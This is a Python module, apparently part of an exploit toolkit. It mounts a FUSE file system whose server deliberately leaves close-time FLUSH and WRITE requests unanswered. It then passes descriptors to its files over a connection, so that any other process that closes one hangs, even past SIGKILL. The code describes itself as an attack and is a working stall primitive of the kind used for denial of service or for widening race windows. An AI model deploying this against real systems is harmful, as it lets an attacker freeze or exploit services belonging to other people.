# SPDX-License-Identifier: MIT
"""fuse.py - a file system of FUSE with files of number names, whose server answers nobody who closes it

Whoever else closes the file waits for the server, beyond SIGKILL: in close(2) for FLUSH, and,
since the kernel keeps what was written (FUSE_WRITEBACK_CACHE), for WRITE wherever the last
descriptor vanishes. It is over when the server ends, which the kernel takes for the end of the
file system.
"""
import ctypes
import errno
import os
import signal
import stat
import struct
import time

import raw

IN_HEADER = struct.Struct("=IIQQIIIHH")
OUT_HEADER = struct.Struct("=IiQ")
LOOKUP, FORGET, GETATTR, SETATTR, OPEN, READ, WRITE, RELEASE = 1, 2, 3, 4, 14, 15, 16, 18
FSYNC, FLUSH, INIT, INTERRUPT, BATCH_FORGET = 20, 25, 26, 36, 42
UNANSWERED = (SETATTR, WRITE, RELEASE, FSYNC, FORGET, INTERRUPT, BATCH_FORGET)
WRITEBACK_CACHE = 1 << 16
ROOT, FIRST_FILE = 1, 2
SIZE, VALID_SECONDS = 4096, 3600
CLONE_NEWNS, MNT_DETACH = 0x20000, 2


def attributes(node):
    mode = stat.S_IFDIR | 0o755 if node == ROOT else stat.S_IFREG | 0o666
    now = int(time.time())
    return struct.pack("=6Q10I", node, SIZE, 8, now, now, now, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)


def answer(opcode, node, body):
    """Return: an error and a body."""
    if opcode == INIT:
        return 0, struct.pack("=4I2H2I2H8I", 7, 31, 1 << 16, WRITEBACK_CACHE, 16, 12, 1 << 16, 1,
                              1, 0, *[0] * 8)
    if opcode == LOOKUP:
        node = int(body.rstrip(b"\0"))
        return 0, struct.pack("=4Q2I", node, 0, VALID_SECONDS, VALID_SECONDS, 0,
                              0) + attributes(node)
    if opcode == GETATTR:
        return 0, struct.pack("=Q2I", VALID_SECONDS, 0, 0) + attributes(node)
    if opcode == OPEN:
        return 0, struct.pack("=QIi", 1, 0, 0)
    if opcode == READ:
        return 0, bytes(SIZE)
    return (0 if opcode == FLUSH else -errno.ENOSYS), b""


def serve(device, owner):
    while True:
        try:
            request = os.read(device, 1 << 18)
        except InterruptedError:
            continue
        _, opcode, unique, node, _, _, pid, *_ = IN_HEADER.unpack_from(request)
        if opcode in UNANSWERED or opcode == FLUSH and pid != owner:
            continue
        error, body = answer(opcode, node, request[IN_HEADER.size:])
        os.write(device, OUT_HEADER.pack(OUT_HEADER.size + len(body), error, unique) + body)


class Fuse:
    """In a mount namespace of the attack's own, so that nothing is left of it."""

    def __init__(self, folder):
        self.path = os.path.join(folder, "fuse")
        os.mkdir(self.path)
        self.server = None
        self.writers = []
        self.ready = os.pipe()

    def __enter__(self):
        try:
            device = os.open("/dev/fuse", os.O_RDWR | os.O_CLOEXEC)
        except OSError as error:
            raw.not_here(f"there is no FUSE: {error}")
        options = f"fd={device},rootmode=40000,user_id=0,group_id=0,allow_other"
        if raw.LIBC.unshare(CLONE_NEWNS) != 0:
            raw.not_here("there is no mount namespace: " + os.strerror(ctypes.get_errno()))
        raw.own_mounts()
        if raw.LIBC.mount(b"attack", self.path.encode(), b"fuse", 0, options.encode()) != 0:
            raw.not_here("no FUSE can be mounted: " + os.strerror(ctypes.get_errno()))
        self.server = raw.in_child(self.be_server, device)
        os.close(device)
        return self

    def be_server(self, device):
        raw.die_with_parent()
        serve(device, os.getppid())

    def __exit__(self, *_):
        for pid in [self.server] + self.writers:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
        raw.LIBC.umount2(self.path.encode(), MNT_DETACH)

    def pass_file(self, connection, message):
        """So that it is in the message alone, with a page that is still to be written. Return:
        whether it went out."""
        path = os.path.join(self.path, str(FIRST_FILE + len(self.writers)))
        fd = os.open(path, os.O_RDWR | os.O_CLOEXEC)
        is_passed = connection.pass_fds(message, [fd])
        os.close(fd)
        if is_passed:
            self.writers.append(raw.in_child(self.write, path))
            os.read(self.ready[0], 1)
        return is_passed

    def write(self, path):
        """Who has written waits as well, so that is somebody else."""
        raw.die_with_parent()
        os.pwrite(os.open(path, os.O_RDWR | os.O_CLOEXEC), bytes(SIZE), 0)
        os.write(self.ready[1], b"x")
        signal.pause()
